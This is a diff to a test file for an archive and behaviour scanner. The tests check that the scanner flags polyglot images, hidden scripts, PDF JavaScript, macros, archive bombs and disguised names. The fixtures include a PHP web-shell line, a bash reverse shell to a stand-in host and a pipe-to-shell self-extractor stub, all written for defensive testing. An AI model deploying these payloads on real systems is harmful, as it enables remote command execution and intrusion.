@@ -3,6 +3,7 @@ import { gzipSync } from "node:zlib";
 import { createArchiveHygieneScanner } from "./archive-hygiene.ts";
 import { createBehaviourScanner } from "./behaviour.ts";
 import { withNestedFiles } from "./nested-files.ts";
+import { PACKED } from "./packed.fixture.ts";
 import { briefly, scanWith, targetOf, zipOf } from "./target.fixture.ts";
 
 const scanner = createArchiveHygieneScanner();
@@ -90,4 +91,109 @@ test("a bomb is cut off at the bound", async () => {
   const bomb = gzipSync(Buffer.alloc(200 * 1024 * 1024), { level: 9 });
   const target = await withNestedFiles(targetOf({ "a.gz": bomb }), signal);
   expect(target.files.reduce((sum, file) => sum + file.size, 0)).toBeLessThan(50 * 1024 * 1024);
+});
+
+const SVG = '<svg xmlns="http://www.w3.org/2000/svg">';
+const bytes = (content: string) => Buffer.from(content, "latin1");
+const chunk = (type: string, data = "") => {
+  const head = Buffer.alloc(4);
+  head.writeUInt32BE(data.length);
+  return Buffer.concat([head, bytes(`${type}${data}\0\0\0\0`)]);
+};
+const PNG = Buffer.concat([bytes("\x89PNG\r\n\x1a\n"), chunk("IHDR", "\0".repeat(13)), chunk("IEND")]);
+const GIF = bytes("GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;");
+const JPEG = bytes("\xff\xd8\xff\xe0\0\x04JF\xff\xda\0\x04\0\0\x12\xff\0\x34\xff\xd9");
+const behind = (picture: Uint8Array, rest: string | Uint8Array) =>
+  Buffer.concat([picture, typeof rest === "string" ? bytes(rest) : rest]);
+
+test.each<[string, Record<string, string | Uint8Array>, string[]]>([
+  ["pictures", { "a.png": PNG, "b.gif": GIF, "c.jpg": JPEG, "d.svg": `${SVG}<path d="M0 0"/></svg>` }, []],
+  ["a camera's two pictures", { "a.jpg": behind(JPEG, JPEG) }, []],
+  ["a program behind a picture", { "a.png": behind(PNG, ELF) }, ["polyglot high a.png"]],
+  [
+    "a script behind a picture",
+    { "a.gif": behind(GIF, "<script src=x></script>") },
+    ["script-in-picture high a.gif", "polyglot high a.gif"],
+  ],
+  [
+    "a picture whose comment is a program",
+    { "a.gif": bytes("GIF89a/*\0\0\0\0\0*/=1;alert(1)") },
+    ["script-in-picture high a.gif"],
+  ],
+  [
+    "PHP in a picture",
+    { "a.jpg": behind(JPEG.subarray(0, 6), "<?php system($_GET[0]); ?>") },
+    ["script-in-picture high a.jpg"],
+  ],
+  ["much behind a picture", { "a.png": behind(PNG, "\x07".repeat(5000)) }, ["trailing-data low a.png"]],
+  ["a script under a picture's name", { "a.png": "#!/bin/sh\necho hi\n" }, ["mismatch high a.png"]],
+  ["a JPEG under a PNG's name", { "a.png": JPEG }, []],
+  ["a pointer of Git LFS", { "a.png": "version https://git-lfs.github.com/spec/v1\noid sha256:00\n" }, []],
+  ["a drawing with a script", { "a.svg": `${SVG}<script>x()</script></svg>` }, ["active-document medium a.svg"]],
+  ["a PDF", { "a.pdf": "%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\n%%EOF" }, []],
+  [
+    "a PDF that runs a script, in other letters",
+    { "a.pdf": "%PDF-1.7\n1 0 obj <</OpenAction <</S /J#61vaScript /JS (app.alert\\(1\\))>>>> endobj\n%%EOF" },
+    ["active-document high a.pdf"],
+  ],
+  [
+    "a document with macros",
+    { "a.docm": zipOf([{ name: "word/vbaProject.bin", bytes: text("x") }]) },
+    ["unexpected-archive low a.docm", "office-macros high a.docm"],
+  ],
+  [
+    "a self-extractor",
+    { "setup.sh": behind(bytes("#!/bin/sh\ntail -n +3 $0 | sh\n"), "\x1f\x8b\x08\0\0\0") },
+    ["self-extractor high setup.sh"],
+  ],
+  ["an encrypted file", { "a.bin": "Salted__abcdefgh0123456789" }, ["encrypted high a.bin"]],
+  ["two extensions", { "report.pdf.exe": "x", "page.html.js": "x" }, ["double-extension high report.pdf.exe"]],
+  ["a turned name", { "a\u202egpj.sh": "echo" }, ["disguised-name high a\u202egpj.sh"]],
+  ["compiled Python alone", { "a.pyc": bytes("\xcb\x0d\x0d\x0a\0\0\0\0") }, ["compiled-python high a.pyc"]],
+  [
+    "compiled Python beside its source",
+    { "x/a.py": "1", "x/__pycache__/a.cpython-312.pyc": bytes("\xcb\x0d\x0d\x0a\0\0\0\0") },
+    ["compiled-python low x/__pycache__/a.cpython-312.pyc"],
+  ],
+  [
+    "what cannot be unpacked",
+    { "a.gz": bytes(`\x1f\x8b\x08\0${"\xee".repeat(40)}`) },
+    ["unreadable-archive medium a.gz"],
+  ],
+])("formats: %s", async (_name, files, expected) => {
+  expect(await found(files)).toEqual(expected);
+});
+
+test.each(Object.entries(PACKED))("what hides in %s is scanned", async (type, packed) => {
+  const target = await withNestedFiles(targetOf({ [`run.sh.${type}`]: packed }), signal);
+  expect(briefly(await scanWith(createBehaviourScanner(), target))).toContain(
+    `reverse-shell critical run.sh.${type}!/run.sh:1`,
+  );
+});
+
+test("a bomb, a member too large and one member too many are reported", async () => {
+  const zeros = gzipSync(Buffer.alloc(40 * 1024 * 1024), { level: 9 });
+  expect(await found({ "a.gz": zeros })).toEqual(["bomb high a.gz!/a"]);
+  const script = Buffer.alloc(9 * 1024 * 1024, "echo 1234567890\n");
+  const members = [
+    { name: "a.sh", bytes: script },
+    { name: "a.csv", bytes: script },
+  ];
+  expect(await found({ "a.zip": zipOf(members) })).toEqual([
+    "not-fully-scanned high a.zip!/a.sh",
+    "not-fully-scanned low a.zip!/a.csv",
+  ]);
+  const many = Array.from({ length: 2001 }, (_, i) => ({ name: `f${i}`, bytes: text("x") }));
+  expect(await found({ "a.zip": zipOf(many) })).toEqual(["not-fully-scanned high a.zip"]);
+});
+
+test("two members of one name are both scanned", async () => {
+  const twice = zipOf([
+    { name: "run.sh", bytes: text("echo hi") },
+    { name: "run.sh", bytes: text("bash -i >& /dev/tcp/h.example/1 0>&1") },
+  ]);
+  const target = await withNestedFiles(targetOf({ "a.zip": twice }), signal);
+  expect(briefly(await scanWith(createBehaviourScanner(), target))).toContain(
+    "reverse-shell critical a.zip!/run.sh#2:1",
+  );
 });
